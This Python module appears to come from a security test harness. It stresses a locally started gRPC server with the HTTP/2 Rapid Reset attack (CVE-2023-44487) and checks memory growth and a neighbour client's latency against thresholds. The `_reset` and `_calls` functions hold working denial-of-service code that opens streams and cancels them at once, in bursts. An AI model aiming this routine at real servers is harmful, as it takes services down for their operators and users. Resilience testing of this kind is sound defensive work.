"""Rapid reset (CVE-2023-44487): streams that are reset at once escape the limit on concurrent streams."""

import asyncio
import contextlib
import struct
import time

from metamorph_client.vault.v1.vault_service_pb2 import WhoAmIRequest

from harness.abuse.subject import neighbour, p99, subject
from harness.figure import Figure, tried
from harness.run import Run
from tests.support.http2 import (
    CANCEL,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    RST_STREAM,
    Connection,
    block,
    frame,
    message,
)
from tests.support.http2 import headers as call_headers
from tests.support.tokens import mint

CONNECTIONS = 5
BURST = 50
FIRST_SECONDS = 1.0
# After this it opens a new connection.
PATIENCE_SECONDS = 1.0


async def attack(
    run: Run,
    *,
    seconds: float,
    most_megabytes: float = 50,
    most_later_megabytes: float = 20,
    most_milliseconds: float = 250,
) -> list[Figure]:
    """Resets streams for some seconds; measures the neighbour's latency and the server's memory.

    What is in flight takes up memory within the first second, and from then on no more than that.
    """
    with subject(run.directory, mutant=run.mutant) as server:
        header_block = block(call_headers("/metamorph.vault.v1.VaultService/WhoAmI", mint("hostile", "hostile")))
        async with neighbour(server) as calls:
            # Warms up: a server's first calls load what is loaded once.
            await asyncio.sleep(1)
            until = time.monotonic() + seconds
            async with server.growing():
                resetting = asyncio.gather(*(_reset(server.target, header_block, until) for _ in range(CONNECTIONS)))
                await asyncio.sleep(FIRST_SECONDS)
                first = server.growth
                counts = await resetting
        resets, connections = (sum(column) for column in zip(*counts, strict=True))
        return [
            tried("resets", resets),
            Figure("connections that the server closed or stopped reading", connections),
            Figure("server has ended", float(not server.alive), "", "=", 0),
            tried("neighbour's calls", len(calls)),
            Figure("neighbour's calls that failed", calls.count(float("inf")), "", "=", 0),
            Figure("neighbour's p99", p99(calls), "ms", "≤", most_milliseconds),
            Figure("memory growth", server.growth, "MB", "≤", most_megabytes),
            Figure("memory growth after the first second", server.growth - first, "MB", "≤", most_later_megabytes),
        ]


async def _reset(target: str, header_block: bytes, until: float) -> tuple[int, int]:
    """Resets on one connection after another. Returns (streams reset, connections that the server left unread)."""
    payload = message(WhoAmIRequest().SerializeToString())
    resets = lost = 0
    while time.monotonic() < until:
        async with Connection(target) as connection:
            with contextlib.suppress(ConnectionError, TimeoutError):
                while time.monotonic() < until and not connection.closed.is_set():
                    connection.write(b"".join(_calls(connection, header_block, payload)))
                    resets += BURST
                    async with asyncio.timeout(PATIENCE_SECONDS):
                        await connection.drain()
                    await asyncio.sleep(0)
        lost += time.monotonic() < until
    return resets, lost


def _calls(connection: Connection, header_block: bytes, payload: bytes) -> list[bytes]:
    streams = [connection.stream() for _ in range(BURST)]
    return [
        frame(HEADERS, END_HEADERS, stream, header_block)
        + frame(DATA, END_STREAM, stream, payload)
        + frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL))
        for stream in streams
    ]
